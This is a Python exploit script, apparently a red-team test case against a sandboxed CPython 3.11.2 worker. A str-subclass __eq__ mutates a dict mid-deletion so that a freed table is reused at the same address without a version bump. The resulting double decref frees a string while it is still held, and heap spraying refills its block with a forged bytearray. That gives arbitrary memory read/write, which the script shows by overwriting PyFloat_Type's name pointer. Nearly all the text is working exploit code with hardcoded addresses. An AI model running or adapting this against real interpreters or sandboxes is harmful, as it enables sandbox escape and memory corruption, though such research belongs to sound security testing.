# technique: the dict version check (worker/pywrap.c _Py_dict_lookup) assumes every table change bumps ma_version_tag; in 3.11.2 two do not: insertdict/setdefault turning a str-only table general for a non-str key (insertion_resize before the lookup) and dict_merge's up-front dictresize, when the insertion that follows raises. A str-subclass key K's __eq__, during `del d[K]` on a str-only table A (1520 B), does `d[R1] = 0` (A -> small general table, A freed; R1's compare raises) then `d.update(other)` (resize to a 1104 B general table, usually at A's address; the first insertion's compare raises): no version change, same address (ABA), and the old entry's key slot is now entry 2's value, which we made the same str s0. delitem_common then reads the "old value" with the str-only layout (entry 0's key: s0 again) and decrefs s0 twice; s0 is freed while we hold it and its 80-byte block is refilled as a fake bytearray over all memory. (red-team pass 82; the lookup compares the table's layout, not the dict's version)
# expect: any
import struct
BA_TYPE = 0x1001e00                 # &PyByteArray_Type (nm safepy-worker: not PIE)
FLOAT_TYPE = 0x100f9e0              # &PyFloat_Type

class Boom(Exception):
    pass

class Raiser:                        # a non-str key whose compare with a str raises
    def __init__(self, h): self.h = h
    def __hash__(self): return self.h
    def __eq__(self, o):
        if isinstance(o, str):
            raise Boom()
        return self is o

def fake_ba(tp, addr, n):
    return struct.pack("<qQqqQQq", 1 << 40, tp, n, n + 1, addr, addr, 0)

FAKE = fake_ba(BA_TYPE, 0, 1 << 62) + bytes(23)   # 79 bytes: an 80-byte buffer; a str has no GC header
spray_keep, keepd = [], []

def attempt(n):
    s0 = ("s0_%d_" % n).ljust(31, "x")         # 48 + 32 = an 80-byte str block, not interned
    k1 = "k1_%d" % n
    k2 = "k2_%d" % n
    d = {s0: 0, k1: 0, k2: s0}
    for i in range(45):
        d["f%d_%d" % (n, i)] = i                # grow to a log2-7 str-only table (1520 B)
    for i in range(45):
        del d["f%d_%d" % (n, i)]                # keep the table, 3 live entries
    other = {Raiser(hash(k1)): 0}               # first key: its insertion's compare raises
    for i in range(29):
        other[1000 + i] = i                     # 30 entries: d resized to a log2-6 general table
    st = {"calls": 0}
    h0 = hash(s0)
    class K(str):
        def __hash__(self): return h0
        def __eq__(self, o):
            st["calls"] += 1
            if st["calls"] == 1:
                try:
                    d[Raiser(hash(k1))] = 0     # str-only -> general (288 B), A freed: no version bump
                except Boom:
                    pass
                try:
                    d.update(other)             # resize to 1104 B, often at A: no version bump
                except Boom:
                    pass
                return True
            return False
    try:
        del d[K("zz")]
    except KeyError:
        return None                             # the address was not reused: the lookup restarted
    keepd.append(d)
    return s0, d, k2

for n in range(200):
    r = attempt(n)
    if r is not None:
        s0, d, k2 = r
        del r
        print("attempt", n, "ABA passed the version check; dict now", len(d))
        del d[k2]                               # drop the last counted reference: s0 freed, we hold it
        spray = [bytearray() for _ in range(3000)]
        spray_keep.append(spray)
        for b in spray:
            b += FAKE
        print("type of s0 now:", type(s0).__name__)
        if type(s0) is bytearray:
            M = s0
            print("len", hex(len(M)), "at 0x400000:", bytes(M[0x400000:0x400004]))
            M[FLOAT_TYPE + 24:FLOAT_TYPE + 32] = struct.pack("<Q", 0x400001)
            print("type(1.5).__name__ is now", repr(type(1.5).__name__))
            raise RuntimeError("arbitrary memory read/write through a dict lookup ABA without a version bump")
        break
else:
    print("address never reused")
result = "done"
